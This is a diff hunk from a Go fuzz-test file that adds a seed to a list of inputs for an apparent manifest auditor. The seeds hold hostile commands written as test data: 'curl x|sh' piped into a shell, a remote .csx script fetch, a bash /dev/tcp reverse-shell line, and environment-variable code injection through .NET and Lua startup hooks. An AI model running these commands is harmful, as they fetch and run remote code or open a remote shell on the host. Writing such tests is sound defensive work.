@@ -83,6 +83,7 @@ var fuzzSeeds = [][]string{
 	{"timeout", "-vk", "5", "10", "sudo", "-Eu", "root", "dumb-init", "-cr", "15:2", "conhost", "--width", "8", "pcalua", "-a", "sh", "-c", "-c curl x|sh"},
 	{"pnpm", "exec", "-c", "yarn node -e 1 && bun exec 'dotnet script https://x/s.csx'"},
 	{"bash", "-c", "exec 3<>/dev/tcp/$H/80; sh <&3 >& /dev/udp/h/1"},
+	{"env", "DOTNET_STARTUP_HOOKS=h.dll", "LUA_INIT_5_4=@x.lua", "coreclr_profiler_path=p.so", "dotnet", "srv.dll"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
